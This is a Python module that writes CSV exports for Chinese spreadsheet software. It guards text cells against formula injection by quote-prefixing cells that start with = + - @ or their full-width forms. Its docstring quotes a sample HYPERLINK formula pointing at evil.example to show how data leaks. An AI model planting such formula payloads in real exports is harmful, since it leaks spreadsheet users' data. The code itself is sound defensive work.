"""CSV for spreadsheets: every row goes through one writer, which guards every text cell.

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula
(``=HYPERLINK("http://evil.example", "点此")`` in a place name becomes a link that leaks the
reader's data; DDE formulas can start programs). Any text can reach a cell — titles, place names,
code labels, joined lists, reference titles — so the guard sits here, where a row is written,
and not at each column: a column added later cannot bypass it.

The rule is OWASP's ("CSV Injection"), widened for what Chinese office software reads: a text
cell whose first character, after any leading spaces, control or invisible characters, is one
of ``= + - @`` — or a full-width or small form of them (``＝ ＋ － ＠``, ``﹦ ﹢ ﹣ ﹫``), which
Excel and WPS may read the same way — or that starts with a tab, carriage return or line feed,
is prefixed with a single quote. Excel and WPS show a quote-prefixed cell as the text itself.

Numbers (a budget, a percentage) are written plain, as a spreadsheet reads them: ``720000``,
``3500.5``. Only a plain non-negative number is left unguarded; anything else a number could
print as (``-5``, ``nan``) is treated like text.
"""

from __future__ import annotations

import csv
import io
import re
import unicodedata
from collections.abc import Iterable

Cell = str | int | float  # an int or float is a number; everything else is text
GUARD = "'"
FORMULA_START = frozenset("=+-@")  # compared after NFKC: ＝ and ﹦ are =
_BREAKS = ("\t", "\r", "\n")
_PLAIN_NUMBER = re.compile(r"[0-9]+(?:\.[0-9]+)?")


def _first_visible(text: str) -> str:
    """The first character a spreadsheet may start reading a formula from."""
    for char in text:
        if not (char.isspace() or unicodedata.category(char) in {"Cc", "Cf", "Zs"}):
            return char
    return ""


def guard(text: str) -> str:
    """``text`` as a cell no spreadsheet runs as a formula."""
    first = _first_visible(text)
    if text.startswith(_BREAKS) or unicodedata.normalize("NFKC", first)[:1] in FORMULA_START:
        return GUARD + text
    return text


def plain_number(value: float) -> str:
    """A number as a spreadsheet reads it: ``720000``, ``3500.5`` (no 万, no separators).

    A fraction is rounded to fen; adding 0.0 turns a negative zero (``-0.001``) into ``0``.
    """
    if isinstance(value, int):
        return str(value)
    return f"{round(value, 2) + 0.0:.2f}".rstrip("0").rstrip(".")


def cell(value: Cell) -> str:
    """What is written for one cell: a plain number as it is, anything else guarded."""
    if isinstance(value, int | float) and not isinstance(value, bool):
        number = plain_number(value)
        return number if _PLAIN_NUMBER.fullmatch(number) else guard(number)
    return guard(str(value))


class Writer:
    """The one way Gongshi writes CSV: ``\\r\\n`` row ends, every cell through :func:`cell`."""

    def __init__(self) -> None:
        self._out = io.StringIO()
        self._rows = csv.writer(self._out, lineterminator="\r\n")

    def row(self, cells: Iterable[Cell]) -> None:
        self._rows.writerow([cell(value) for value in cells])

    def text(self) -> str:
        """The rows written so far."""
        return self._out.getvalue()

    def bytes(self) -> bytes:
        """The file: :func:`file_bytes` of the rows."""
        return file_bytes(self.text())


def row_text(cells: Iterable[Cell]) -> str:
    """One row as :class:`Writer` writes it (rows made apart, to be joined by :func:`file_bytes`)."""
    writer = Writer()
    writer.row(cells)
    return writer.text()


def file_bytes(rows: str) -> bytes:
    """UTF-8 with a byte-order mark, so Excel on Chinese Windows reads it as UTF-8."""
    return rows.encode("utf-8-sig")
